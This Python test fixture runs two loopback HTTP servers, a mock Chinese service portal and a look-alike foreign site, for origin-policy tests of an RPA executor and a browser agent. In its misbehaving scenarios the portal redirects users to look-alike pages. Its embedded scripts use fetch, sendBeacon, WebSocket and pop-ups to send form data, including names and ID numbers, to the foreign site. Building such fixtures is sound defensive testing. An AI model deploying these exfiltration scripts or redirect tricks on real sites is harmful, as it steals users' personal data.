"""A portal that misbehaves, and the foreign site it sends things to: two small real
HTTP servers on loopback, for the origin-policy tests of the rpa executor and the
browser agent.

The portal (127.0.0.1, a free port) has a login page and a one-page form (姓名,
身份证号, 提交申请); its ``scenario`` makes it misbehave:

- ``login_redirect``: after a good login, a redirect to the foreign site's form;
- ``submit_redirect``: after the submission (recorded), a redirect to the foreign
  site's page showing a fake 受理编号;
- ``cross_action``: the form posts to the foreign site;
- ``foreign_login``: the form (not logged in) redirects to the foreign site's login page;
- ``fetch_leak``: the form's script posts the form data to the foreign site
  (``fetch`` and ``sendBeacon``) whenever a value changes;
- ``socket_leak``: the same through a WebSocket and a pop-up (``window.open``)
  with the data in their URLs;
- ``script_redirect``: the result page sends the browser on to the foreign site's
  fake 受理编号 page with a script;
- anything else: a well-behaved portal (the result page shows the real number).

The foreign site (127.0.0.2, another port) answers everything with pages that
look like the portal's (a login form, the same form, a fake number) and records
every request it gets, body included.
"""

from __future__ import annotations

import http.server
import threading
import urllib.parse
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

FAKE_NO = "SI99999999999999"
REAL_NO = "SI20260101000001"
USER, PASSWORD = "clerk", "s3cret-portal-pw"


@dataclass
class Seen:
    method: str
    path: str
    body: str
    headers: dict[str, str] = field(default_factory=dict)

    def text(self) -> str:
        return urllib.parse.unquote_plus(f"{self.path}\n{self.body}\n{self.headers}")


def _page(body: str) -> bytes:
    return (f"<!doctype html><html lang=zh-CN><head><meta charset=utf-8><title>网上办事大厅"
            f"</title></head><body>{body}</body></html>").encode()


_LOGIN = """<h1>登录</h1><form method=post action="{action}">
<label for=user>用户名</label><input id=user name=user>
<label for=pw>密码</label><input id=pw name=password type=password>
<button type=submit>登录</button></form>"""

_FORM = """<h1>测试业务申请</h1><form id=f method=post action="{action}">
<label for=name>姓名</label><input id=name name=name required>
<label for=id_number>身份证号</label><input id=id_number name=id_number required>
<button type=submit>提交申请</button></form>{script}"""

_LEAK = """<script>
for (const el of document.querySelectorAll("input")) {{
  el.addEventListener("change", () => {{
    const data = new URLSearchParams(new FormData(document.getElementById("f")));
    fetch("{foreign}/collect", {{method: "POST", body: data, mode: "no-cors"}}).catch(() => {{}});
    navigator.sendBeacon("{foreign}/beacon", data);
  }});
}}
</script>"""


_SOCKET_LEAK = """<script>
for (const el of document.querySelectorAll("input")) {{
  el.addEventListener("change", () => {{
    const data = new URLSearchParams(new FormData(document.getElementById("f")));
    try {{ new WebSocket("{socket}/ws?" + data); }} catch (e) {{}}
    window.open("{foreign}/popup?" + data);
  }});
}}
</script>"""


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, host: str, site: Site) -> None:
        super().__init__((host, 0), _Handler)
        self.site = site


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _Server

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self._answer("GET")

    def do_POST(self) -> None:
        self._answer("POST")

    def _answer(self, method: str) -> None:
        size = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(size).decode("utf-8", "replace") if size else ""
        seen = Seen(method, self.path, body, dict(self.headers))
        status, headers, content = self.server.site.answer(seen)
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)


class Site:
    """One of the two servers: its base URL and every request it got."""

    def __init__(self, host: str) -> None:
        self.requests: list[Seen] = []
        self._server = _Server(host, self)
        self.url = f"http://{host}:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def start(self) -> Site:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(timeout=5)

    def answer(self, seen: Seen) -> tuple[int, dict[str, str], bytes]:
        raise NotImplementedError


class Foreign(Site):
    """The foreign site: looks like the portal, keeps everything it is sent."""

    def answer(self, seen: Seen) -> tuple[int, dict[str, str], bytes]:
        self.requests.append(seen)
        path = seen.path.split("?", 1)[0]
        if path == "/login":
            return 200, {}, _page(_LOGIN.format(action="/login"))
        if path == "/form" and seen.method == "GET":
            return 200, {}, _page(_FORM.format(action="/submit", script=""))
        return 200, {}, _page(f"<h1>申请已受理</h1><p>受理编号：{FAKE_NO}</p>")


class Portal(Site):
    """The portal, misbehaving as ``scenario`` says (see the module docstring)."""

    def __init__(self, host: str, foreign: Foreign) -> None:
        super().__init__(host)
        self.foreign = foreign
        self.scenario = ""
        self.applications: list[dict[str, str]] = []
        self.logins = 0

    def answer(self, seen: Seen) -> tuple[int, dict[str, str], bytes]:
        self.requests.append(seen)
        path = seen.path.split("?", 1)[0]
        logged_in = "session=ok" in seen.headers.get("Cookie", "")
        foreign = self.foreign.url
        if path == "/login" and seen.method == "POST":
            form = dict(urllib.parse.parse_qsl(seen.body))
            if (form.get("user"), form.get("password")) != (USER, PASSWORD):
                return 200, {}, _page(_LOGIN.format(action="/login") + "<p>密码错误</p>")
            self.logins += 1
            target = f"{foreign}/form" if self.scenario == "login_redirect" else "/form"
            return 302, {"Location": target, "Set-Cookie": "session=ok; Path=/"}, b""
        if path == "/login":
            return 200, {}, _page(_LOGIN.format(action="/login"))
        if path == "/form":
            if not logged_in:
                target = f"{foreign}/login" if self.scenario == "foreign_login" else "/login"
                return 302, {"Location": target}, b""
            action = f"{foreign}/submit" if self.scenario == "cross_action" else "/submit"
            script = {"fetch_leak": _LEAK.format(foreign=foreign),
                      "socket_leak": _SOCKET_LEAK.format(
                          foreign=foreign, socket="ws" + foreign.removeprefix("http"))
                      }.get(self.scenario, "")
            return 200, {}, _page(_FORM.format(action=action, script=script))
        if path == "/submit" and seen.method == "POST" and logged_in:
            self.applications.append(dict(urllib.parse.parse_qsl(seen.body)))
            if self.scenario == "submit_redirect":
                return 302, {"Location": f"{foreign}/done?no={FAKE_NO}"}, b""
            if self.scenario == "script_redirect":
                return 200, {}, _page(f'<p>正在跳转…</p><script>location.href = '
                                      f'"{foreign}/done?no={FAKE_NO}";</script>')
            return 200, {}, _page(f"<h1>申请已受理</h1><p>受理编号：{REAL_NO}</p>")
        return 404, {}, _page("<p>页面不存在</p>")


BUSINESS_YAML = """\
id: hostile_test
name: 测试业务
type: handle
description: 测试用的网上办理业务。
keywords: [测试业务]
fields:
  - key: name
    label: 姓名
    type: name
    prompt: 请提供您的姓名。
  - key: id_number
    label: 身份证号
    type: idcard
    prompt: 请提供您的身份证号码。
require_confirm: true
confirm_text: |-
  请核对：
  {{summary}}
  确认无误请回复“确认”。
api:
  kind: rpa
  options:
    url: {portal}/form
    login: {{url: {portal}/login, user_env: HOSTILE_USER, password_env: HOSTILE_PASSWORD}}
    action_timeout: 8
    job_timeout: 60
  result_template: 已受理，受理编号：{{application_no}}。
"""


@contextmanager
def running_sites() -> Iterator[tuple[Portal, Foreign]]:
    """The hostile portal on 127.0.0.1 and the foreign site on 127.0.0.2, started."""
    foreign = Foreign("127.0.0.2").start()
    portal = Portal("127.0.0.1", foreign).start()
    try:
        yield portal, foreign
    finally:
        portal.stop()
        foreign.stop()
